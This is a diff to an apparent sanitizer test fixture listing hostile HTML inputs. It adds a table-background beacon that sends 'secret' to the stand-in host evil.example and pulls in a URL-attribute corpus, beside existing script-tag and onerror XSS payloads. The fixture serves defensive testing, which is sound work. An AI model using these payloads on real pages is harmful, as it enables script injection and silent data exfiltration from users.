@@ -3,6 +3,8 @@
 // tricks, mutation-XSS shapes, image and CSS beacons, fixed-position overlays. Each tries to set
 // window.__pwned, to make the browser fetch from evil.example, or to draw outside its message.
 
+import { urlAttributeCorpus } from './url-attributes';
+
 export const HOSTILE: readonly string[] = [
   '<script>window.__pwned = 1</script>',
   '<img src=x onerror="window.__pwned = 1">',
@@ -46,6 +48,10 @@ export const HOSTILE: readonly string[] = [
   '<a href="https://ok.example/" target="_self" onclick="window.__pwned = 1">a normal link</a>',
   '```html\n<script>window.__pwned = 1</script>\n```',
   '| a | <img src=x onerror="window.__pwned=1"> |\n| - | - |\n| <script>window.__pwned=1</script> | 2 |',
+  // The zero-click beacons an attribute list misses: each table part's background.
+  '<table background="https://evil.example/table?d=secret"><tr><td background="https://evil.example/td">cell</td></tr></table>',
+  // Every URL-bearing attribute of HTML, SVG and MathML, and CSS that loads.
+  ...urlAttributeCorpus(),
 ];
 
 /** Every item at once, as one long answer. */
